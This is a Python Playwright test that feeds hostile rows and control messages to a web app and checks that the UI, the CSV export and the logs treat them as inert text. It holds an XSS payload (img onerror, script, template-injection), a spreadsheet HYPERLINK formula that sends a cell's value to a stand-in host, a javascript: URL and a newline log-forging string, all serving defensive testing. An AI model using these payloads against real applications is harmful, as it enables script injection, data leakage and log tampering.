"""Rows and control messages that somebody wrote to do harm: a person reads them, the page and a spreadsheet do not obey them."""

import csv
import json
import re
import uuid
from pathlib import Path
from urllib.parse import quote
from urllib.request import Request, urlopen

from playwright.sync_api import expect

from bench.stack import Stack

from .conftest import OpenPage, Send

MARKUP = "<img src=x onerror=\"window.owned='yes'\"><script>window.owned='yes'</script>{{constructor.constructor('window.owned=1')()}}"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/"&A1,"click")'


def test_reads_hostile_rows_and_messages_as_the_text_that_they_are(open_page: OpenPage, demo_stack: Stack, send: Send) -> None:
    user_id = f"h{uuid.uuid4().hex[:10]}"
    send("users", userId=user_id, name=MARKUP, email=FORMULA, age=1)
    send("accounts", userId=user_id, accountType=f"javascript:{MARKUP}", balance=-1.5)
    asked = json.dumps({"usersTopic": MARKUP, "accountsTopic": "x\n[orchestrator] ready", "joinType": MARKUP}).encode()
    with urlopen(Request(f"{demo_stack.url}/api/control", asked, {"Authorization": f"Bearer {demo_stack.key}"}), timeout=30) as answer:  # noqa: S310
        message = json.loads(answer.read())["id"]

    visit = open_page(f"/#key={quote(demo_stack.key)}&table=final_ui&search={user_id}", table=None)
    expect(visit.find("range")).to_have_text("rows 1-1 of 1")
    expect(visit.rows.first.locator("td")).to_contain_text([user_id, MARKUP, FORMULA, f"javascript:{MARKUP}"])
    visit.rows.first.locator("td").first.dblclick()
    visit.button("Export").click()
    with visit.page.expect_download() as download:
        visit.find("export-csv").click()
    with Path(download.value.path()).open(newline="") as file:
        [row] = csv.DictReader(file)
    assert (row["name"], row["email"], row["balance"]) == (MARKUP, f"'{FORMULA}", "-1.5")

    refused = open_page(f"/#key={quote(demo_stack.key)}&table=control_raw&search={message}", table=None)
    expect(refused.rows.first.locator("td")).to_contain_text([message, "rejected", MARKUP[:19]])
    operator = open_page(f"/#key={quote(demo_stack.key)}&panel=operator", table=None)
    expect(operator.find("history")).to_contain_text(MARKUP[:19])
    expect(operator.find("history").locator("tbody tr", has_text=MARKUP[:19]).locator("[data-verdict=rejected]").first).to_be_in_viewport()
    for page in (visit.page, refused.page, operator.page):
        assert page.locator("img, script:not([src]), a[href^=javascript]").count() == 0
        assert page.evaluate("window.owned ?? 'no'") == "no"
    forged = re.compile(r"^\d\d:\d\d:\d\d \[orchestrator\] ready$")
    assert sum(bool(forged.match(line)) for line in demo_stack.log.lines) == 1
